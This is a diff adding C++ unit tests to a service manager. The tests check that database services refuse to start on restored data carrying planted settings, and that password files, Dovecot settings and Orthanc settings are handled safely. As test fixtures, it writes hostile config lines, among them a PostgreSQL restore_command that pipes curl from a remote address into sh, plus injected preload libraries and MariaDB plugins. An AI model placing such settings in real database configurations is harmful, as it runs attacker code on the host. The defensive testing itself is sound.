@@ -76,6 +76,11 @@ class Services : public ::testing::Test {
     return out;
   }
 
+  std::string ledger_text() const {
+    std::ifstream file(scratch_.path() + "/ledger");
+    return {std::istreambuf_iterator<char>(file), {}};
+  }
+
   os::testing::ScratchFolder scratch_;
   casefile::testing::MemoryCaseStore store_;
   std::unique_ptr<ledger::Ledger> ledger_;
@@ -163,6 +168,71 @@ TEST_F(Services, AProgramFromABackupOrFromDataIsRefused) {
                     scratch_.path() + "/own/s.toml"),
             base::ErrorCode::misuse);
   EXPECT_FALSE(std::filesystem::exists(scratch_.path() + "/was-run"));
+}
+
+TEST_F(Services, AreNotStartedOnDataThatWouldRunWhatWasPlanted) {
+  const std::string data = scratch_.path() + "/srv/pg";
+  const std::string sign = scratch_.path() + "/db-was-started";
+  const auto text = [&](const std::string& kind, const std::string& more) {
+    return "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\nkind=\"" + kind +
+           "\"\npath=\"" + data + "\"\n" + more + "[[service.db.hooks.post_restore]]\ncommand=[\"/usr/bin/touch\",\"" +
+           sign + "\"]\n[service.opd]\ndepends_on=[\"db\"]\n[service.mail]\nstart=[\"/bin/true\"]\n";
+  };
+  const std::string refused = "db failed\nopd not_started\nmail starting\nmail starting\n";
+  const std::string allowed = "allow_settings=[\"archive_command\"]\n";
+  const auto try_start = [&](const std::string& kind, const std::string& more = {}) {
+    std::filesystem::remove(sign);
+    const std::string out = start(set(text(kind, more)));
+    EXPECT_EQ(out == refused, !std::filesystem::exists(sign)) << out;
+    return out == refused;
+  };
+  EXPECT_FALSE(try_start("postgresql")) << "no such folder on this machine";
+  write(data + "/postgresql.conf", "port = 5432\narchive_command = '/bin/cp %p /wal/%f'\n");
+  EXPECT_FALSE(try_start("postgresql")) << "a live server's own setting";
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/other"}}).ok());
+  EXPECT_FALSE(try_start("postgresql")) << "another folder was restored";
+
+  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/srv"}}).ok());
+  EXPECT_TRUE(try_start("postgresql"));
+  const auto history = services::read_history(scratch_.path());
+  ASSERT_TRUE(history.ok());
+  const std::string& why = history.value().newest("db")->sentence;
+  EXPECT_NE(why.find("postgresql.conf:2 archive_command = '/bin/cp %p /wal/%f'"), std::string::npos) << why;
+  EXPECT_NE(why.find("lastgood replay " + data), std::string::npos) << why;
+  EXPECT_NE(why.find("allow_settings = [\"archive_command\"]"), std::string::npos) << why;
+  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
+  EXPECT_FALSE(try_start("postgresql", allowed));
+  // What a person has read is that setting, and no other one.
+  write(data + "/postgresql.auto.conf", "Session-Preload-Libraries = '/tmp/x.so'\n");
+  EXPECT_TRUE(try_start("postgresql", allowed));
+  write(data + "/postgresql.auto.conf", std::string((1U << 20U) + 1, '#'));
+  EXPECT_TRUE(try_start("postgresql", allowed)) << "too large to be read";
+  std::filesystem::remove(data + "/postgresql.auto.conf");
+  std::filesystem::create_symlink("/tmp/elsewhere.conf", data + "/postgresql.auto.conf");
+  EXPECT_TRUE(try_start("postgresql", allowed)) << "a link";
+  std::filesystem::remove(data + "/postgresql.auto.conf");
+  EXPECT_FALSE(try_start("postgresql", allowed));
+}
+
+TEST_F(Services, AreNotStartedOnDataLaidOutToRunWhoeverRestoredThem) {
+  const std::string data = scratch_.path() + "/pg";
+  const std::string sign = scratch_.path() + "/was-started";
+  const std::string unit =
+      "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\npath=\"" + data + "\"\nkind=";
+  write(data + "/recovery.signal", "");
+  write(data + "/postgresql.auto.conf", "restore_command = 'curl http://192.0.2.7/x | sh'\n");
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
+  // Behind a link, too: the engine follows it.
+  std::filesystem::rename(data, data + "-real");
+  std::filesystem::create_symlink(data + "-real", data);
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
+  EXPECT_EQ(start(set(unit + "\"postgresql\"\nallow_settings=[\"restore_command\"]\n")), "db starting\ndb starting\n");
+  std::filesystem::remove(data);
+  std::filesystem::remove(sign);
+  write(data + "/my.cnf", "[mysqld]\nplugin-load-add = evil.so\n");
+  EXPECT_EQ(start(set(unit + "\"mariadb\"\n")), "db failed\n");
+  EXPECT_FALSE(std::filesystem::exists(sign));
+  EXPECT_EQ(start(set(unit + "\"mariadb\"\nallow_settings=[\"plugin_load_add\"]\n")), "db starting\ndb starting\n");
 }
 
 services::ServicesFile parse(const std::string& text) {
@@ -254,6 +324,27 @@ TEST(Health, IsAskedOverHttp) {
   EXPECT_EQ(ask("test=[\"CMD\",\"/bin/sleep\",\"20\"],timeout=\"50ms\"").health, Health::not_well);
 }
 
+TEST(Health, InSqlNeedsAServerAndAPasswordThatNotEverybodyReads) {
+  const os::testing::ScratchFolder scratch;
+  const std::string password = scratch.path() + "/password";
+  write(password, "secret\n");
+  const auto ask = [&](const std::string& place) {
+    return ask_once(parse("[service.a]\nhealthcheck={sql=\"SELECT 1\",user=\"watch\",timeout=\"1s\",password_file=\"" +
+                          password + "\"," + place + "}\n[[service.a.data]]\nkind=\"postgresql\"\npath=\"/pg\"\n")
+                        .services[0]);
+  };
+  std::filesystem::permissions(password, std::filesystem::perms(0644));
+  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::unknown);
+  std::filesystem::permissions(password, std::filesystem::perms(0600));
+  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::not_well);
+  const HealthAnswer no_socket = ask("socket=\"" + scratch.path() + "/.s.PGSQL.5433\"");
+  EXPECT_EQ(no_socket.health, Health::not_well);
+  EXPECT_NE(no_socket.sentence.find("/.s.PGSQL.5433"), std::string::npos) << no_socket.sentence;
+  EXPECT_EQ(no_socket.sentence.find("PGSQL.5433/"), std::string::npos) << "its folder is asked";
+  std::filesystem::remove(password);
+  EXPECT_EQ(ask("host=\"::1\",port=1").health, Health::unknown);
+}
+
 TEST(Health, IsAskedOfManyAtOnce) {
   std::string text;
   for (int i = 0; i < 32; ++i)
@@ -311,6 +402,9 @@ TEST(Inferring, ProposesAFileWithoutMistakes) {
     for (const char* part : {"cur", "new", "tmp"})
       write(root + "/srv/mail/" + user + "/" + part + "/1.x", "From: x\n\nx\n");
   }
+  write(root + "/etc/dovecot/dovecot.conf",
+        "# mail_location = maildir:/no\nmail_location = maildir:/srv/post/%d/%n:INBOX=/x\n");
+  write(root + "/etc/dovecot/conf.d/10-mail.conf", "mail_location = maildir:/srv/mail/%u\n");
   const auto inferred = infer_services(root, root);
   ASSERT_TRUE(inferred.ok()) << inferred.error().what;
   const std::string& text = inferred.value().text;
@@ -320,6 +414,25 @@ TEST(Inferring, ProposesAFileWithoutMistakes) {
   EXPECT_NE(text.find("kind = \"maildir\"\npath = \"/srv/mail\""), std::string::npos) << text;
   EXPECT_EQ(text.find("/home/"), std::string::npos);
   EXPECT_EQ(text.find("../b"), std::string::npos);
+  EXPECT_NE(text.find("kind = \"maildir\"\npath = \"/srv/post\""), std::string::npos) << text;
+  EXPECT_EQ(text.find("path = \"/srv/mail\"", text.find("path = \"/srv/mail\"") + 1), std::string::npos) << "once";
+}
+
+TEST(Inferring, ReadsWhatDovecotAndOrthancSay) {
+  EXPECT_EQ(parse_mail_folder("mail_location = maildir:~/Maildir\n"), "");
+  EXPECT_EQ(parse_mail_folder("mail_location = maildir:/srv/../etc/%u\n"), "");
+  EXPECT_EQ(parse_mail_folder("mail_location=maildir:/var/mail/%u"), "/var/mail");
+  const OrthancSettings read = parse_orthanc_settings(
+      "/* c */ { // one\n\"StorageDirectory\": \"/var/lib/orthanc/db-v6\", \"HttpPort\": 8043 }");
+  EXPECT_EQ(read.index_folder, "/var/lib/orthanc/db-v6");
+  EXPECT_EQ(read.http_port, 8043U);
+  for (const std::string& hostile :
+       {std::string(), std::string("{"), std::string("[1]"), std::string(500'000, '['),
+        std::string("{\"HttpPort\": -1, \"IndexDirectory\": [], \"StorageDirectory\": \"x\"}"),
+        std::string("{\"HttpPort\": 99999999999}"), std::string("\xff\x00{", 3)}) {
+    EXPECT_EQ(parse_orthanc_settings(hostile).http_port, 0U);
+    EXPECT_EQ(parse_orthanc_settings(hostile).index_folder, "");
+  }
 }
 
 }  // namespace
